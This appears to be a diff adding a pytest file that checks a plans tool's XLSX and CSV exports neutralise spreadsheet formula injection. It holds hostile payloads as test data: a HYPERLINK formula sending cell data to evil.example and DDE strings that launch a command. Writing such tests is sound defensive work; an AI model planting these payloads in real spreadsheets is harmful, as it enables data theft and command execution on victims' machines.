@@ -1,0 +1,53 @@
+"""Issue 12: hostile text, reverted amendments, OCR copies, runaway inputs, leaked secrets,
+orphaned servers, relative paths and the command line's rough edges. Each test failed before
+its fix."""
+from __future__ import annotations
+
+import copy
+import csv
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from gold_plans import fake_document, gold_plans
+from plans.cli import app
+from schemas import store
+from store_fixtures import db, db_url, pg_admin  # noqa: F401
+
+ROOT = Path(__file__).parent.parent
+TXT = ROOT / "data/raw/txt/003_49a8354a5f205a74.txt"
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def plans(*args):
+    return CliRunner().invoke(app, [str(a) for a in args])
+
+
+def gold(name: str):
+    """One gold plan (document, plan) by document name prefix, a deep copy."""
+    return copy.deepcopy(next((d, p) for d, p in gold_plans() if p.document.startswith(name)))
+
+
+# -- 1. formula injection ------------------------------------------------------------------
+
+def test_exports_write_formula_like_text_as_text(db, tmp_path):
+    import openpyxl
+    document, plan = gold("001")
+    for task, payload in zip(plan.tasks, PAYLOADS):
+        task.text = payload
+    store.load(db, document, plan)
+    store.export(db, "xlsx", tmp_path / "t.xlsx")
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["All tasks"]
+    texts = [c.value for c in ws["J"][1:5]]
+    assert texts == PAYLOADS
+    assert all(c.data_type == "s" for c in ws["J"][1:5])
+    store.export(db, "csv", tmp_path / "t.csv")
+    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["text"] for r in rows[:4]] == ["'" + p for p in PAYLOADS]
+    assert not any(v[:1] in "=+@" for r in rows for v in r.values() if v)
+    assert rows[5]["text"] == plan.tasks[5].text          # ordinary text untouched
